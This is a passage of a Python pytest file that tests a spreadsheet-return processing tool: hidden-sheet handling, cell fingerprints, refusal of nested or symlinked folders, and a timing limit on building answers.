        book["Eget"].sheet_state = "hidden"

    sent = filling.edited(good(), hide)
    (returned,) = way.take_in({"a.xlsx": sent}, decisions)
    told = [one for one in way.judge([returned], decisions, planned(EQUAL)) if one.file == "a.xlsx"]
    back = answer.of_return(sent, told, returned)
    shown = filling.edited(back, lambda book: book["Eget"].__setattr__("sheet_state", "visible"))
    kinds = {
        one.file: one.kind
        for one in way.take_in({"svar.xlsx": back, "visad.xlsx": shown}, decisions)
    }
    assert kinds == {"svar.xlsx": "skipped", "visad.xlsx": "xlsx"}


def test_a_fingerprint_of_cells_has_no_digits_and_sees_every_change(
    way: Way, decisions: Rulebook
) -> None:
    texts = [None, Decimal("40000.51"), "40000.50"]
    contents = {
        f"{n}.xlsx": good() if t is None else with_first(Belopp=t) for n, t in enumerate(texts)
    }
    keys = [one.cells_key for one in way.take_in(contents, decisions)]
    assert len(set(keys)) == len(keys)
    assert all(re.fullmatch("[a-p]{64}", key) for key in keys)


# -- folders in each other -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("out", "returns", "data"),
    [
        ("in/ut", "in", "data"),
        ("ut", "ut/in", "data"),
        ("in", "in", "data"),
        ("data/ut", "in", "data"),
        ("lank", "in", "d"),
    ],
)
def test_folders_in_each_other_are_refused(
    out: str, returns: str, data: str, tmp_path: Path
) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "lank").symlink_to(tmp_path / "in")
    with pytest.raises(InputError, match="Välj en annan mapp med --out"):
        store.must_lie_apart(tmp_path / out, tmp_path / returns, tmp_path / data)
    store.must_lie_apart(tmp_path / "ut", tmp_path / "data/inbox", tmp_path / "data")


@pytest.mark.long
def test_an_answer_costs_at_most_twenty_milliseconds(way: Way, decisions: Rulebook) -> None:
    """The best of three rounds of fifty: what else the machine does is no answer's cost."""
    findings = [
        finding(Severity.WARNING, "Kostnader", "H6", "H8"),
        finding(Severity.BLOCKING, "Redovisning", "C7"),
    ]
    (returned,) = way.take_in({"a.xlsx": good()}, decisions)
    rounds = []
    for _ in range(3):
        start = time.process_time()
        for _ in range(50):
            answer.of_return(good(), findings, returned)
        rounds.append((time.process_time() - start) / 50)
    assert min(rounds) <= 0.020, rounds
